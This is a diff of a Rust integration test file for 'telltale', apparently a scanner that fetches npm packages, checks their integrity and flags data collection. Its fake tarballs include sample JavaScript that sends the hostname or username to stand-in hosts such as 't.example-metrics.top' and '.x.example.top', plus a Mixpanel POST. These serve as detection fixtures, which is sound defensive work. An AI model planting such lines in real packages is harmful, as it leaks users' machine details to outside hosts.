@@ -5,30 +5,57 @@ use telltale_registry::testing::{sri, FakeRegistry};
 
 /// An npm tarball holding `package/package.json` and `package/index.js`.
 fn tarball(index_js: &str) -> Vec<u8> {
-    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
-    for (path, body) in [("package/package.json", r#"{"name":"demo","version":"1.0.0"}"#), ("package/index.js", index_js)] {
+    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
+        Vec::new(),
+        flate2::Compression::fast(),
+    ));
+    for (path, body) in [
+        (
+            "package/package.json",
+            r#"{"name":"demo","version":"1.0.0"}"#,
+        ),
+        ("package/index.js", index_js),
+    ] {
         let mut header = tar::Header::new_gnu();
         header.set_size(body.len() as u64);
         header.set_mode(0o644);
         header.set_cksum();
-        builder.append_data(&mut header, path, body.as_bytes()).unwrap();
+        builder
+            .append_data(&mut header, path, body.as_bytes())
+            .unwrap();
     }
     builder.into_inner().unwrap().finish().unwrap()
 }
 
-fn scan(reg: &FakeRegistry, cache: &std::path::Path, args: &[&str]) -> (Option<i32>, serde_json::Value) {
+fn scan(
+    reg: &FakeRegistry,
+    cache: &std::path::Path,
+    args: &[&str],
+) -> (Option<i32>, serde_json::Value) {
     let out = Command::new(env!("CARGO_BIN_EXE_telltale"))
-        .args(["scan", "--format", "json", "--platform", "none", "--registry", &reg.url])
+        .args([
+            "scan",
+            "--format",
+            "json",
+            "--platform",
+            "none",
+            "--registry",
+            &reg.url,
+        ])
         .args(args)
         .env("TELLTALE_CACHE_DIR", cache)
         .output()
         .unwrap();
-    (out.status.code(), serde_json::from_slice(&out.stdout).unwrap())
+    (
+        out.status.code(),
+        serde_json::from_slice(&out.stdout).unwrap(),
+    )
 }
 
 #[test]
 fn npm_target_is_fetched_verified_scanned_and_cached() {
-    let bad = tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
+    let bad =
+        tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
     let reg = FakeRegistry::new(&[("demo", "1.0.0", &bad, serde_json::json!({}))], &sri);
     let cache = tempfile::tempdir().unwrap();
     let (code, doc) = scan(&reg, cache.path(), &["npm:demo@^1"]);
@@ -36,11 +63,21 @@ fn npm_target_is_fetched_verified_scanned_and_cached() {
     let t = &doc["targets"][0];
     assert_eq!(t["target"], "npm:demo@1.0.0");
     assert!(t["source"].as_str().unwrap().contains("sha512-"), "{t}");
-    assert!(t["findings"].as_array().unwrap().iter().any(|f| f["category"] == "exfiltration" && f["file"] == "package/index.js"), "{t}");
+    assert!(
+        t["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["category"] == "exfiltration" && f["file"] == "package/index.js"),
+        "{t}"
+    );
     // Offline, from the cache.
     let (code, doc) = scan(&reg, cache.path(), &["--offline", "npm:demo@1.0.0"]);
     assert_eq!(code, Some(1), "{doc}");
-    assert!(doc["targets"][0]["source"].as_str().unwrap().contains("from the cache"));
+    assert!(doc["targets"][0]["source"]
+        .as_str()
+        .unwrap()
+        .contains("from the cache"));
     // A cache tampered with after the download: checked while it decompresses, and nothing
     // read from it is reported.
     let cached = cache.path().join("npm/tarballs/demo-1.0.0.tgz");
@@ -49,24 +86,51 @@ fn npm_target_is_fetched_verified_scanned_and_cached() {
     let (code, doc) = scan(&reg, cache.path(), &["--offline", "npm:demo@1.0.0"]);
     assert_eq!(code, Some(2), "{doc}");
     let t = &doc["targets"][0];
-    assert!(t["error"].as_str().unwrap().contains("integrity check failed"), "{t}");
+    assert!(
+        t["error"]
+            .as_str()
+            .unwrap()
+            .contains("integrity check failed"),
+        "{t}"
+    );
     assert!(t["findings"].as_array().unwrap().is_empty());
 }
 
 #[test]
 fn npm_target_with_wrong_integrity_is_an_error() {
-    let reg = FakeRegistry::new(&[("demo", "1.0.0", &tarball("module.exports = 1;"), serde_json::json!({}))], &|_| sri(b"something else"));
+    let reg = FakeRegistry::new(
+        &[(
+            "demo",
+            "1.0.0",
+            &tarball("module.exports = 1;"),
+            serde_json::json!({}),
+        )],
+        &|_| sri(b"something else"),
+    );
     let cache = tempfile::tempdir().unwrap();
     let (code, doc) = scan(&reg, cache.path(), &["npm:demo"]);
     assert_eq!(code, Some(2));
-    assert!(doc["targets"][0]["error"].as_str().unwrap().contains("integrity check failed"), "{doc}");
+    assert!(
+        doc["targets"][0]["error"]
+            .as_str()
+            .unwrap()
+            .contains("integrity check failed"),
+        "{doc}"
+    );
 }
 
 #[test]
 fn lockfile_packages_are_fetched_and_scanned_each() {
-    let bad = tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
+    let bad =
+        tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
     let good = tarball("module.exports = (a, b) => a + b;");
-    let reg = FakeRegistry::new(&[("bad", "1.0.0", &bad, serde_json::json!({})), ("good", "2.0.0", &good, serde_json::json!({}))], &sri);
+    let reg = FakeRegistry::new(
+        &[
+            ("bad", "1.0.0", &bad, serde_json::json!({})),
+            ("good", "2.0.0", &good, serde_json::json!({})),
+        ],
+        &sri,
+    );
     let dir = tempfile::tempdir().unwrap();
     let lock = serde_json::json!({ "lockfileVersion": 3, "packages": {
         "": { "name": "app" },
@@ -79,56 +143,142 @@ fn lockfile_packages_are_fetched_and_scanned_each() {
     let (code, doc) = scan(&reg, dir.path(), &[path.to_str().unwrap()]);
     assert_eq!(code, Some(1), "{doc}");
     let targets = doc["targets"].as_array().unwrap();
-    assert!(targets[0]["source"].as_str().unwrap().contains("2 registry packages"), "{}", targets[0]);
-    assert!(targets[0]["warnings"][0].as_str().unwrap().contains("skipped local"), "{}", targets[0]);
-    let by_name = |n: &str| targets.iter().find(|t| t["target"] == n).unwrap_or_else(|| panic!("{n} in {doc}"));
-    assert!(!by_name("npm:bad@1.0.0")["findings"].as_array().unwrap().is_empty());
-    assert!(by_name("npm:good@2.0.0")["error"].as_str().unwrap().contains("lockfile's integrity"));
+    assert!(
+        targets[0]["source"]
+            .as_str()
+            .unwrap()
+            .contains("2 registry packages"),
+        "{}",
+        targets[0]
+    );
+    assert!(
+        targets[0]["warnings"][0]
+            .as_str()
+            .unwrap()
+            .contains("skipped local"),
+        "{}",
+        targets[0]
+    );
+    let by_name = |n: &str| {
+        targets
+            .iter()
+            .find(|t| t["target"] == n)
+            .unwrap_or_else(|| panic!("{n} in {doc}"))
+    };
+    assert!(!by_name("npm:bad@1.0.0")["findings"]
+        .as_array()
+        .unwrap()
+        .is_empty());
+    assert!(by_name("npm:good@2.0.0")["error"]
+        .as_str()
+        .unwrap()
+        .contains("lockfile's integrity"));
 }
 
 /// A tarball of `package/…` files.
 fn package(files: &[(&str, &str)]) -> Vec<u8> {
-    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
+    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
+        Vec::new(),
+        flate2::Compression::fast(),
+    ));
     for (path, body) in files {
         let mut header = tar::Header::new_gnu();
         header.set_size(body.len() as u64);
         header.set_mode(0o644);
         header.set_cksum();
-        builder.append_data(&mut header, format!("package/{path}"), body.as_bytes()).unwrap();
+        builder
+            .append_data(&mut header, format!("package/{path}"), body.as_bytes())
+            .unwrap();
     }
     builder.into_inner().unwrap().finish().unwrap()
 }
 
-fn scan_with(reg: &FakeRegistry, cache: &std::path::Path, args: &[&str]) -> (Option<i32>, serde_json::Value) {
+fn scan_with(
+    reg: &FakeRegistry,
+    cache: &std::path::Path,
+    args: &[&str],
+) -> (Option<i32>, serde_json::Value) {
     let out = Command::new(env!("CARGO_BIN_EXE_telltale"))
-        .args(["scan", "--no-config", "--format", "json", "--registry", &reg.url])
+        .args([
+            "scan",
+            "--no-config",
+            "--format",
+            "json",
+            "--registry",
+            &reg.url,
+        ])
         .args(args)
         .env("TELLTALE_CACHE_DIR", cache)
         .output()
         .unwrap();
-    (out.status.code(), serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr))))
+    (
+        out.status.code(),
+        serde_json::from_slice(&out.stdout)
+            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr))),
+    )
 }
 
 /// The amp shape: a launcher whose bin is inside a dependency, that dependency's bin a
 /// placeholder, its program in a platform package (with others listed but never published).
 fn launcher_tarball() -> Vec<u8> {
-    package(&[("package.json", r#"{"name":"@demo/launcher","version":"1.0.0","bin":{"demo":"node_modules/@demo/cli/bin/demo.exe"},"dependencies":{"@demo/cli":"1.0.0"}}"#)])
+    package(&[(
+        "package.json",
+        r#"{"name":"@demo/launcher","version":"1.0.0","bin":{"demo":"node_modules/@demo/cli/bin/demo.exe"},"dependencies":{"@demo/cli":"1.0.0"}}"#,
+    )])
 }
 
 fn launcher_registry() -> FakeRegistry {
     let launcher = launcher_tarball();
     let cli = package(&[
-        ("package.json", r#"{"name":"@demo/cli","version":"1.0.0","bin":{"demo":"bin/demo.exe"},"optionalDependencies":{"@demo/cli-linux-x64":"1.0.0","@demo/cli-darwin-arm64":"1.0.0","@demo/cli-win32-x64":"1.0.0"}}"#),
+        (
+            "package.json",
+            r#"{"name":"@demo/cli","version":"1.0.0","bin":{"demo":"bin/demo.exe"},"optionalDependencies":{"@demo/cli-linux-x64":"1.0.0","@demo/cli-darwin-arm64":"1.0.0","@demo/cli-win32-x64":"1.0.0"}}"#,
+        ),
         ("bin/demo.exe", "echo not installed\n"),
     ]);
-    let linux = package(&[("package.json", r#"{"name":"@demo/cli-linux-x64","version":"1.0.0","os":["linux"],"cpu":["x64"]}"#), ("demo.js", "require('https').get('https://t.example-metrics.top/?h=' + require('os').hostname());")]);
-    let darwin = package(&[("package.json", r#"{"name":"@demo/cli-darwin-arm64","version":"1.0.0"}"#), ("demo.js", "module.exports = 'mac';")]);
+    let linux = package(&[
+        (
+            "package.json",
+            r#"{"name":"@demo/cli-linux-x64","version":"1.0.0","os":["linux"],"cpu":["x64"]}"#,
+        ),
+        (
+            "demo.js",
+            "require('https').get('https://t.example-metrics.top/?h=' + require('os').hostname());",
+        ),
+    ]);
+    let darwin = package(&[
+        (
+            "package.json",
+            r#"{"name":"@demo/cli-darwin-arm64","version":"1.0.0"}"#,
+        ),
+        ("demo.js", "module.exports = 'mac';"),
+    ]);
     FakeRegistry::new(
         &[
-            ("@demo/launcher", "1.0.0", &launcher, serde_json::json!({ "dependencies": { "@demo/cli": "1.0.0" } })),
-            ("@demo/cli", "1.0.0", &cli, serde_json::json!({ "optionalDependencies": { "@demo/cli-linux-x64": "1.0.0", "@demo/cli-darwin-arm64": "1.0.0", "@demo/cli-win32-x64": "1.0.0" } })),
-            ("@demo/cli-linux-x64", "1.0.0", &linux, serde_json::json!({ "os": ["linux"], "cpu": ["x64"] })),
-            ("@demo/cli-darwin-arm64", "1.0.0", &darwin, serde_json::json!({ "os": ["darwin"], "cpu": ["arm64"] })),
+            (
+                "@demo/launcher",
+                "1.0.0",
+                &launcher,
+                serde_json::json!({ "dependencies": { "@demo/cli": "1.0.0" } }),
+            ),
+            (
+                "@demo/cli",
+                "1.0.0",
+                &cli,
+                serde_json::json!({ "optionalDependencies": { "@demo/cli-linux-x64": "1.0.0", "@demo/cli-darwin-arm64": "1.0.0", "@demo/cli-win32-x64": "1.0.0" } }),
+            ),
+            (
+                "@demo/cli-linux-x64",
+                "1.0.0",
+                &linux,
+                serde_json::json!({ "os": ["linux"], "cpu": ["x64"] }),
+            ),
+            (
+                "@demo/cli-darwin-arm64",
+                "1.0.0",
+                &darwin,
+                serde_json::json!({ "os": ["darwin"], "cpu": ["arm64"] }),
+            ),
         ],
         &sri,
     )
@@ -138,9 +288,16 @@ fn launcher_registry() -> FakeRegistry {
 fn a_launcher_is_followed_to_the_program_in_its_dependency_and_platform_package() {
     let reg = launcher_registry();
     let cache = tempfile::tempdir().unwrap();
-    let (code, doc) = scan_with(&reg, cache.path(), &["--platform", "linux-x64", "npm:@demo/launcher@1.0.0"]);
+    let (code, doc) = scan_with(
+        &reg,
+        cache.path(),
+        &["--platform", "linux-x64", "npm:@demo/launcher@1.0.0"],
+    );
     let targets = doc["targets"].as_array().unwrap();
-    let names: Vec<&str> = targets.iter().map(|t| t["target"].as_str().unwrap()).collect();
+    let names: Vec<&str> = targets
+        .iter()
+        .map(|t| t["target"].as_str().unwrap())
+        .collect();
     assert_eq!(
         names,
         [
@@ -151,22 +308,69 @@ fn a_launcher_is_followed_to_the_program_in_its_dependency_and_platform_package(
         "only this platform's package is fetched, the unpublished win32 one is no error: {doc}"
     );
     assert_eq!(targets[1]["delegated_from"], "@demo/launcher");
-    assert_eq!(targets[1]["delegation"], "its bin demo is node_modules/@demo/cli/bin/demo.exe");
+    assert_eq!(
+        targets[1]["delegation"],
+        "its bin demo is node_modules/@demo/cli/bin/demo.exe"
+    );
     assert_eq!(targets[2]["platform_of"], "@demo/cli");
-    assert!(targets[2]["findings"].as_array().unwrap().iter().any(|f| f["category"] == "exfiltration"), "the program is reached: {}", targets[2]);
-    assert!(targets.iter().all(|t| t["coverage"]["complete"] == true), "{doc}");
+    assert!(
+        targets[2]["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["category"] == "exfiltration"),
+        "the program is reached: {}",
+        targets[2]
+    );
+    assert!(
+        targets.iter().all(|t| t["coverage"]["complete"] == true),
+        "{doc}"
+    );
     assert_eq!(code, Some(1));
     // A platform with no package of its own: the product is not fully analysed, and says so.
-    let (_, doc) = scan_with(&reg, cache.path(), &["--platform", "linux-arm64", "npm:@demo/launcher@1.0.0"]);
-    let cli = doc["targets"].as_array().unwrap().iter().find(|t| t["package"] == "@demo/cli").unwrap_or_else(|| panic!("{doc}"));
+    let (_, doc) = scan_with(
+        &reg,
+        cache.path(),
+        &["--platform", "linux-arm64", "npm:@demo/launcher@1.0.0"],
+    );
+    let cli = doc["targets"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|t| t["package"] == "@demo/cli")
+        .unwrap_or_else(|| panic!("{doc}"));
     assert_eq!(cli["coverage"]["complete"], false, "{cli}");
-    assert!(cli["coverage"]["unanalysed"][0]["why"].as_str().unwrap().contains("none of its 3 platform packages is for linux-arm64"), "{cli}");
+    assert!(
+        cli["coverage"]["unanalysed"][0]["why"]
+            .as_str()
+            .unwrap()
+            .contains("none of its 3 platform packages is for linux-arm64"),
+        "{cli}"
+    );
     // A hand-over that cannot be fetched is a gap, not silence.
-    let alone = FakeRegistry::new(&[("@demo/launcher", "1.0.0", &launcher_tarball(), serde_json::json!({ "dependencies": { "@demo/cli": "1.0.0" } }))], &sri);
-    let (code, doc) = scan_with(&alone, tempfile::tempdir().unwrap().path(), &["--platform", "none", "npm:@demo/launcher@1.0.0"]);
+    let alone = FakeRegistry::new(
+        &[(
+            "@demo/launcher",
+            "1.0.0",
+            &launcher_tarball(),
+            serde_json::json!({ "dependencies": { "@demo/cli": "1.0.0" } }),
+        )],
+        &sri,
+    );
+    let (code, doc) = scan_with(
+        &alone,
+        tempfile::tempdir().unwrap().path(),
+        &["--platform", "none", "npm:@demo/launcher@1.0.0"],
+    );
     let first = &doc["targets"][0]["coverage"];
     assert_eq!(first["complete"], false, "{doc}");
-    assert!(first["unanalysed"][0]["why"].as_str().unwrap().contains("could not be fetched"), "{first}");
+    assert!(
+        first["unanalysed"][0]["why"]
+            .as_str()
+            .unwrap()
+            .contains("could not be fetched"),
+        "{first}"
+    );
     assert_eq!(code, Some(1), "incomplete fails by default");
 }
 
@@ -174,42 +378,114 @@ fn a_launcher_is_followed_to_the_program_in_its_dependency_and_platform_package(
 fn a_platform_package_listed_but_not_published_is_a_gap() {
     let reg = launcher_registry();
     let cache = tempfile::tempdir().unwrap();
-    let (code, doc) = scan_with(&reg, cache.path(), &["--platform", "win32-x64", "npm:@demo/cli@1.0.0"]);
+    let (code, doc) = scan_with(
+        &reg,
+        cache.path(),
+        &["--platform", "win32-x64", "npm:@demo/cli@1.0.0"],
+    );
     let targets = doc["targets"].as_array().unwrap();
-    assert_eq!(targets.len(), 1, "nothing fetched for other platforms: {doc}");
+    assert_eq!(
+        targets.len(),
+        1,
+        "nothing fetched for other platforms: {doc}"
+    );
     let c = &targets[0]["coverage"];
     assert_eq!(c["complete"], false, "{c}");
     assert_eq!(c["unanalysed"][0]["path"], "npm:@demo/cli-win32-x64");
-    assert!(c["unanalysed"][0]["why"].as_str().unwrap().contains("listed but not published"), "{c}");
+    assert!(
+        c["unanalysed"][0]["why"]
+            .as_str()
+            .unwrap()
+            .contains("listed but not published"),
+        "{c}"
+    );
     assert_eq!(code, Some(1));
-    let bad = Command::new(env!("CARGO_BIN_EXE_telltale")).args(["scan", "--platform", "linux-amd64", "npm:x"]).output().unwrap();
+    let bad = Command::new(env!("CARGO_BIN_EXE_telltale"))
+        .args(["scan", "--platform", "linux-amd64", "npm:x"])
+        .output()
+        .unwrap();
     assert_eq!(bad.status.code(), Some(2));
-    assert!(String::from_utf8_lossy(&bad.stderr).contains("not a processor npm knows"), "{}", String::from_utf8_lossy(&bad.stderr));
+    assert!(
+        String::from_utf8_lossy(&bad.stderr).contains("not a processor npm knows"),
+        "{}",
+        String::from_utf8_lossy(&bad.stderr)
+    );
 }
 
 #[test]
 fn deps_scans_the_install_closure_with_one_label_for_the_product() {
-    let app = package(&[("package.json", r#"{"name":"app","version":"1.0.0","dependencies":{"lib-a":"^1.0.0","lib-b":"1.0.0"}}"#), ("index.js", "module.exports = require('lib-a');")]);
+    let app = package(&[
+        (
+            "package.json",
+            r#"{"name":"app","version":"1.0.0","dependencies":{"lib-a":"^1.0.0","lib-b":"1.0.0"}}"#,
+        ),
+        ("index.js", "module.exports = require('lib-a');"),
+    ]);
     let a = package(&[("package.json", r#"{"name":"lib-a","version":"1.2.0","dependencies":{"lib-b":"^1.0.0"}}"#), ("index.js", "require('https').get('https://t.example-metrics.top/?u=' + require('os').userInfo().username);")]);
     let b = package(&[("package.json", r#"{"name":"lib-b","version":"1.0.0"}"#), ("index.js", "fetch('https://api.mixpanel.com/track', {method: 'POST', body: require('os').hostname()});")]);
     let reg = FakeRegistry::new(
         &[
-            ("app", "1.0.0", &app, serde_json::json!({ "dependencies": { "lib-a": "^1.0.0", "lib-b": "1.0.0" } })),
-            ("lib-a", "1.2.0", &a, serde_json::json!({ "dependencies": { "lib-b": "^1.0.0" } })),
+            (
+                "app",
+                "1.0.0",
+                &app,
+                serde_json::json!({ "dependencies": { "lib-a": "^1.0.0", "lib-b": "1.0.0" } }),
+            ),
+            (
+                "lib-a",
+                "1.2.0",
+                &a,
+                serde_json::json!({ "dependencies": { "lib-b": "^1.0.0" } }),
+            ),
             ("lib-b", "1.0.0", &b, serde_json::json!({})),
         ],
         &sri,
     );
     let cache = tempfile::tempdir().unwrap();
-    let (_, doc) = scan_with(&reg, cache.path(), &["--platform", "none", "--deps", "npm:app"]);
+    let (_, doc) = scan_with(
+        &reg,
+        cache.path(),
+        &["--platform", "none", "--deps", "npm:app"],
+    );
     let targets = doc["targets"].as_array().unwrap();
-    let names: Vec<&str> = targets.iter().map(|t| t["target"].as_str().unwrap()).collect();
-    assert_eq!(names, ["product npm:app@1.0.0 (3 packages)", "npm:app@1.0.0", "npm:lib-a@1.2.0 (dependency of app@1.0.0)", "npm:lib-b@1.0.0 (dependency of app@1.0.0)"], "each package once: {doc}");
+    let names: Vec<&str> = targets
+        .iter()
+        .map(|t| t["target"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        names,
+        [
+            "product npm:app@1.0.0 (3 packages)",
+            "npm:app@1.0.0",
+            "npm:lib-a@1.2.0 (dependency of app@1.0.0)",
+            "npm:lib-b@1.0.0 (dependency of app@1.0.0)"
+        ],
+        "each package once: {doc}"
+    );
     let label = &targets[0]["label"];
-    let by_kind = |k: &str| label["collects"].as_array().unwrap().iter().find(|c| c["kind"] == k).unwrap_or_else(|| panic!("{k}: {label}")).clone();
-    assert_eq!(by_kind("username")["packages"], serde_json::json!(["lib-a@1.2.0"]));
-    assert_eq!(by_kind("hostname")["packages"], serde_json::json!(["lib-b@1.0.0"]));
-    let mixpanel = label["destinations"].as_array().unwrap().iter().find(|d| d["host"] == "api.mixpanel.com").unwrap_or_else(|| panic!("{label}"));
+    let by_kind = |k: &str| {
+        label["collects"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|c| c["kind"] == k)
+            .unwrap_or_else(|| panic!("{k}: {label}"))
+            .clone()
+    };
+    assert_eq!(
+        by_kind("username")["packages"],
+        serde_json::json!(["lib-a@1.2.0"])
+    );
+    assert_eq!(
+        by_kind("hostname")["packages"],
+        serde_json::json!(["lib-b@1.0.0"])
+    );
+    let mixpanel = label["destinations"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|d| d["host"] == "api.mixpanel.com")
+        .unwrap_or_else(|| panic!("{label}"));
     assert_eq!(mixpanel["packages"], serde_json::json!(["lib-b@1.0.0"]));
     assert_eq!(targets[2]["dependency_of"], "app");
     assert_eq!(targets[0]["coverage"]["complete"], true);
